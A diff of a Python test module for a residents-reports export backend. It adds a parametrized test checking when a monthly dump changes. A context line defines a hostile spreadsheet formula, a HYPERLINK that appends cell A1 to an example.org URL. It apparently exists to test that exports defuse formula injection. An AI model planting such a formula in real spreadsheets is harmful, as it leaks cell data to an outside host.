@@ -5,6 +5,7 @@ import io
 import json
 import zipfile
 from collections.abc import Iterator, Sequence
+from dataclasses import replace
 from string import ascii_uppercase
 from xml.etree import ElementTree as ET
 
@@ -12,13 +13,14 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as some
 
-from backend.residents.data import tables, walk, xlsx
+from backend.residents.data import dumps, tables, walk, xlsx
 from backend.residents.data.facts import COLUMNS, Facts
 from backend.residents.item import Item
 from backend.residents.ports import Wanted
 from tests.residents.showcase import FakeShowcase
 from tests.residents.telling import told
 from tests.stores.making import NOON
+from tests.stores.showing import mended
 
 CELL = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
 HOSTILE = '=HYPERLINK("https://example.org/?"&A1,"klik")'
@@ -133,3 +135,19 @@ def test_a_walk_meets_every_report_once() -> None:
     met = [item.id for page in walk.pages(showcase, Wanted(), size=10) for item in page]
 
     assert sorted(met) == sorted(showcase.kept)
+
+
+@pytest.mark.parametrize(
+    "now",
+    [
+        *(replace(told(1), document={**told(1).document, name: []}) for name in ("me_too", "note", "photos")),
+        *(replace(told(1), document={**told(1).document, name: []}) for name in ("steps", "excerpt")),
+        replace(told(1), answered_days=9, settled_days=9, ratings={"4": 1}),
+        replace(told(1), kelurahan="64.74.03.1003"),
+        replace(told(1), amounts={"trees": 3}),
+        replace(told(1), is_good_news=True),
+        mended(told(1)),
+    ],
+)
+def test_a_month_is_written_anew_for_what_changes_a_row_and_for_nothing_else(now: Item) -> None:
+    assert dumps.tells_the_same(told(1), now) == (FACTS.row(now) == FACTS.row(told(1)))
